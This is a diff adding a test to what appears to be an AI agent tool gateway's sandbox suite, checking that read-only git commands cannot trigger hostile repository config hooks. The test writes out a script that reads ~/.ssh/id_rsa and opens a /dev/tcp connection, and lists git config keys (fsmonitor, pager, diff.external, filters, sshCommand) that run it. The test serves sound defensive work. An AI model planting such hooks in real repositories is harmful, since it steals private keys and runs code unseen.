@@ -31,6 +31,7 @@ import shutil
 import socket
 import sqlite3
 import stat
+import subprocess
 import tempfile
 import threading
 import uuid
@@ -604,6 +605,83 @@ async def test_bypassed_runaway_commands_end_within_bounds(world: World, bypass:
     # A few at a time, each bounded: the whole batch is bounded too.
     batches = -(-len(RUNAWAY) // CONCURRENCY)
     assert elapsed <= batches * (RUNAWAY_TIMEOUT + 10), elapsed
+
+
+def _hostile_repository(w: World) -> str:
+    """Make the workspace a repository whose config names a program for every hook
+    a read-only git command may run (fsmonitor, pager, external diff, textconv,
+    clean filter); the program tries to write, connect and read a secret, and says
+    on stderr that it ran. Returns that marker."""
+    marker = "hookran" + uuid.uuid4().hex[:8]
+    script = w.base / "evil.sh"
+    script.write_text(
+        "#!/bin/bash\n"
+        f"echo {marker} >&2\n"
+        f"touch {shlex.quote(str(w.canary))}/hook-$$ 2>/dev/null\n"
+        f"touch {shlex.quote(str(w.workspace))}/hook-$$ 2>/dev/null\n"
+        f"cat {shlex.quote(str(w.home))}/.ssh/id_rsa 2>/dev/null\n"
+        f"echo x 2>/dev/null > /dev/tcp/127.0.0.1/{w.listener.port}\n"
+        'cat "$@" 2>/dev/null\n'
+    )
+    script.chmod(0o755)
+    git = ["git", "-C", str(w.workspace), "-c", "user.name=t", "-c", "user.email=t@t"]
+    subprocess.run([*git, "add", "app.log"], check=True, capture_output=True)
+    subprocess.run([*git, "commit", "-qm", "x"], check=True, capture_output=True)
+    # Only now the hostile parts, so the test's own git calls never ran them.
+    evil = str(script)
+    for key, value in (
+        ("core.fsmonitor", evil),
+        ("core.pager", evil),
+        ("pager.log", evil),
+        ("diff.external", evil),
+        ("diff.x.textconv", evil),
+        ("filter.x.clean", evil),
+        ("filter.x.smudge", evil),
+        ("core.sshCommand", evil),
+        ("alias.st", f"!{evil}"),
+    ):
+        subprocess.run([*git, "config", key, value], check=True, capture_output=True)
+    (w.workspace / ".gitattributes").write_text("* diff=x filter=x\n")
+    (w.workspace / "app.log").write_text("INFO start\nERROR boom\nINFO changed\n")
+    return marker
+
+
+async def test_hostile_repository_config_is_contained(world: World) -> None:
+    """Read-only git commands in a repository whose config runs a program: through
+    the gateway (the real classifier runs them at once), the program gets nothing."""
+    assert shutil.which("git"), "git is needed for this test (CI installs it)"
+    _hostile_repository(world)
+    gateway = ToolGateway.default(
+        world.workspace, shell_timeout=TIMEOUT, shell_max_output=MAX_OUTPUT, sandbox=world.sandbox
+    )
+    before = world.snapshot()
+    commands = [
+        "git status",
+        "git diff",
+        "git diff --stat",
+        "git log -p -1",
+        "git show HEAD",
+        "git log --oneline -5",
+        "git blame app.log",
+        "git grep -n ERROR",
+    ]
+
+    async def run(command: str) -> ToolResult:
+        return await gateway.run_action({"tool": "shell_exec_safe", "args": {"command": command}})
+
+    results = await _gather(commands, run)
+    await _wait_for(lambda: world.listener.reached > 0, within=1.0)
+    changed = _changes(before, world.snapshot())
+    leaked = [c for c, r in results if _leaks(world, r)]
+    assert not changed, f"a repository hook wrote: {changed}"
+    assert not leaked, f"a repository hook read a secret: {leaked}"
+    assert world.listener.reached == 0, "a repository hook reached the network"
+    for command, result in results:
+        # Each one either ran in the sandbox or waited for a person.
+        assert result.metadata.get("sandboxed") or result.metadata.get("pending_approval"), (
+            command,
+            result.metadata,
+        )
 
 
 # Devices and kernel interfaces a sandboxed command must not have.
